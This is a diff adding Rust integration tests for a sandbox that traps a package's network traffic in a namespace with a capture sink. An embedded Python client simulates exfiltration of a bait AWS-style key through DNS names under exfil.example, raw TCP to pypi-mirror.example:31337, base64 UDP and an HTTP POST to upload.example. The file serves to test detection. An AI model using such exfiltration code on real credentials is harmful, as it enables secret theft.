@@ -1,0 +1,204 @@
+//! The vet sandbox's network (monitor/src/vet): a namespace with only loopback and the sink in it,
+//! driven by real `python3` children inside the namespace. Needs root; skipped otherwise.
+
+use std::{
+    io::ErrorKind,
+    net::{IpAddr, SocketAddr, TcpListener, TcpStream, UdpSocket},
+    process::Command,
+    time::{Duration, Instant},
+};
+
+use monitor::vet::{
+    capture::{Capture, Encoding, Place, Transport},
+    netns::NetNs,
+    sink::{Sink, SinkConfig},
+};
+
+const BAIT: &str = "AKIApremainBait4f7Q";
+
+fn is_root() -> bool {
+    // SAFETY: no preconditions.
+    let root = unsafe { libc::geteuid() } == 0;
+    if !root {
+        eprintln!("skipped: the vet sandbox tests need root");
+    }
+    root
+}
+
+/// Runs `python3 -c code BAIT` inside `ns`; returns its stdout, failing on a non-zero exit.
+fn python_in(ns: &NetNs, code: &str) -> String {
+    let mut command = Command::new("python3");
+    command.args(["-c", code, BAIT]);
+    ns.enter_on_exec(&mut command);
+    let out = command.output().expect("running python3");
+    let stderr = String::from_utf8_lossy(&out.stderr);
+    assert!(out.status.success(), "python3 failed: {stderr}");
+    String::from_utf8(out.stdout).unwrap()
+}
+
+/// The sink serves on its own thread: waits until the capture satisfies `done`.
+fn wait_for(sink: &Sink, done: impl Fn(&Capture) -> bool) -> Capture {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        let capture = sink.captured();
+        if done(&capture) || Instant::now() > deadline {
+            return capture;
+        }
+        std::thread::sleep(Duration::from_millis(20));
+    }
+}
+
+const CLIENT: &str = r#"
+import base64, socket, struct, sys, urllib.request
+bait = sys.argv[1].encode()
+
+# getaddrinfo through glibc and the machine's own /etc/resolv.conf: any nameserver is the sink.
+name = bait.hex() + ".exfil.example"
+print(sorted({a[4][0] for a in socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)}))
+
+with socket.create_connection(("pypi-mirror.example", 31337), timeout=5) as s:
+    s.sendall(b"token=" + bait)
+with socket.create_connection(("2001:db8::99", 22), timeout=5) as s:
+    s.sendall(b"SSH-2.0-x\r\n")
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+u.sendto(base64.b64encode(b"k=" + bait), ("198.51.100.7", 5000))
+u.sendto(b"second", ("198.51.100.7", 5000))
+
+# DNS over TCP to a nameserver nobody configured.
+q = struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"\x03tcp\x07example\x00" + struct.pack(">HH", 1, 1)
+with socket.create_connection(("1.1.1.1", 53), timeout=5) as s:
+    s.sendall(struct.pack(">H", len(q)) + q)
+    answer = s.recv(512)
+print(socket.inet_ntoa(answer[-4:]))
+
+# An HTTP upload gets its 200 instead of hanging.
+r = urllib.request.urlopen("http://upload.example:8080/c", data=b"secret=" + bait, timeout=5)
+print(r.status)
+"#;
+
+#[test]
+fn the_sink_takes_every_connection_datagram_and_name() {
+    if !is_root() {
+        return;
+    }
+    let ns = NetNs::new().unwrap();
+    let sink = Sink::start(&ns, SinkConfig::default()).unwrap();
+    let out = python_in(&ns, CLIENT);
+    assert_eq!(out, "['192.0.2.1', '2001:db8::1']\n192.0.2.1\n200\n", "what the client saw");
+
+    let capture = wait_for(&sink, |c| c.flows.iter().filter(|f| f.received > 0).count() >= 5);
+    let flow = |ip: &str, port: u16| {
+        let destination = SocketAddr::new(ip.parse().unwrap(), port);
+        capture.flows.iter().find(|f| f.destination == destination).unwrap_or_else(|| panic!("{capture:#?}"))
+    };
+    assert_eq!(flow("192.0.2.1", 31337).bytes, format!("token={BAIT}").as_bytes());
+    assert_eq!(flow("192.0.2.1", 31337).transport, Transport::Tcp);
+    assert!(flow("192.0.2.1", 31337).source.ip().is_loopback(), "clients' own addresses are loopback");
+    assert_eq!(flow("2001:db8::99", 22).bytes, b"SSH-2.0-x\r\n");
+    let udp = flow("198.51.100.7", 5000);
+    assert_eq!(udp.transport, Transport::Udp);
+    assert!(udp.bytes.ends_with(b"second"), "both datagrams in one flow");
+    assert!(flow("192.0.2.1", 8080).bytes.starts_with(b"POST /c HTTP/1.1"));
+    assert!(flow("1.1.1.1", 53).received > 0);
+
+    let names: Vec<(&str, Transport)> = capture.dns.iter().map(|q| (q.name.as_str(), q.transport)).collect();
+    let hex_name = format!("{}.exfil.example", hex(BAIT.as_bytes()));
+    assert!(names.contains(&(hex_name.as_str(), Transport::Udp)), "{names:?}");
+    assert!(names.contains(&("pypi-mirror.example", Transport::Udp)), "{names:?}");
+    assert!(names.contains(&("tcp.example", Transport::Tcp)), "{names:?}");
+
+    let evidence = sink.contains(BAIT.as_bytes());
+    let found = |encoding: Encoding, place: &dyn Fn(&Place) -> bool| {
+        evidence.iter().any(|e| e.encoding == encoding && place(&e.place))
+    };
+    let in_flow_to = |port: u16| move |p: &Place| matches!(p, Place::Flow { destination, .. } if destination.port() == port);
+    assert!(found(Encoding::Raw, &in_flow_to(31337)), "{evidence:#?}");
+    assert!(found(Encoding::Base64, &in_flow_to(5000)), "{evidence:#?}");
+    assert!(found(Encoding::Raw, &in_flow_to(8080)), "{evidence:#?}");
+    assert!(found(Encoding::Hex, &|p| matches!(p, Place::DnsName { .. })), "{evidence:#?}");
+    assert_eq!(sink.contains(b"a value nobody sent"), []);
+
+    let stopped = sink.stop();
+    assert!(stopped.flows.len() >= capture.flows.len());
+}
+
+#[test]
+fn the_host_network_is_out_of_reach() {
+    if !is_root() {
+        return;
+    }
+    // Listeners of the host (this test runs in the machine's own namespace).
+    let host_tcp = TcpListener::bind("0.0.0.0:0").unwrap();
+    host_tcp.set_nonblocking(true).unwrap();
+    let host_udp = UdpSocket::bind("0.0.0.0:0").unwrap();
+    host_udp.set_nonblocking(true).unwrap();
+    let (tcp_port, udp_port) = (host_tcp.local_addr().unwrap().port(), host_udp.local_addr().unwrap().port());
+    // The host's own address on its default route, if it has one.
+    let host_ip: Option<IpAddr> = UdpSocket::bind("0.0.0.0:0")
+        .and_then(|s| s.connect("192.0.2.1:9").and_then(|()| s.local_addr()))
+        .ok()
+        .map(|a| a.ip())
+        .filter(|ip| !ip.is_unspecified());
+
+    let ns = NetNs::new().unwrap();
+    let sink = Sink::start(&ns, SinkConfig::default()).unwrap();
+
+    // The namespace's loopback is its own: the host's 127.0.0.1 listener is not there.
+    let refused = ns.run_in(|| TcpStream::connect(("127.0.0.1", tcp_port)).map(drop)).unwrap();
+    assert_eq!(refused.unwrap_err().kind(), ErrorKind::ConnectionRefused);
+
+    let target = host_ip.map_or("127.0.0.1".to_string(), |ip| ip.to_string());
+    let out = python_in(
+        &ns,
+        &format!(
+            r#"
+import socket
+try:
+    socket.create_connection(("127.0.0.1", {tcp_port}), timeout=3)
+    print("loopback: connected")
+except ConnectionRefusedError:
+    print("loopback: refused")
+with socket.create_connection(("{target}", {tcp_port}), timeout=3) as s:
+    s.sendall(b"hello host")
+socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"hello udp", ("{target}", {udp_port}))
+"#
+        ),
+    );
+    assert!(out.starts_with("loopback: refused"), "{out}");
+    if let Some(ip) = host_ip {
+        // The host's address is just another address: the sink took the connection.
+        let capture = wait_for(&sink, |c| {
+            c.flows.iter().any(|f| f.destination == SocketAddr::new(ip, tcp_port) && f.received > 0)
+        });
+        assert!(capture.flows.iter().any(|f| f.destination == SocketAddr::new(ip, tcp_port)), "{capture:#?}");
+        assert!(capture.flows.iter().any(|f| f.destination == SocketAddr::new(ip, udp_port)), "{capture:#?}");
+    }
+    std::thread::sleep(Duration::from_millis(200));
+    match host_tcp.accept() {
+        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
+        other => panic!("the host's listener was reached: {other:?}"),
+    }
+    let mut buf = [0u8; 64];
+    assert_eq!(host_udp.recv_from(&mut buf).unwrap_err().kind(), ErrorKind::WouldBlock);
+}
+
+#[test]
+fn a_dropped_sink_and_namespace_let_go() {
+    if !is_root() {
+        return;
+    }
+    let ns = NetNs::new().unwrap();
+    let sink = Sink::start(&ns, SinkConfig::default()).unwrap();
+    drop(sink);
+    // Port 53 is free again in the namespace: the sink's sockets are closed.
+    ns.run_in(|| UdpSocket::bind("[::]:53").map(drop)).unwrap().unwrap();
+    // A second sink in the same namespace starts (the first catch-all is detached).
+    let sink = Sink::start(&ns, SinkConfig::default()).unwrap();
+    python_in(&ns, "import socket; socket.create_connection(('203.0.113.1', 1), timeout=3).sendall(b'x')");
+    let capture = wait_for(&sink, |c| c.flows.iter().any(|f| f.received > 0));
+    assert_eq!(capture.flows.len(), 1, "{capture:#?}");
+}
+
+fn hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("{b:02x}")).collect()
+}
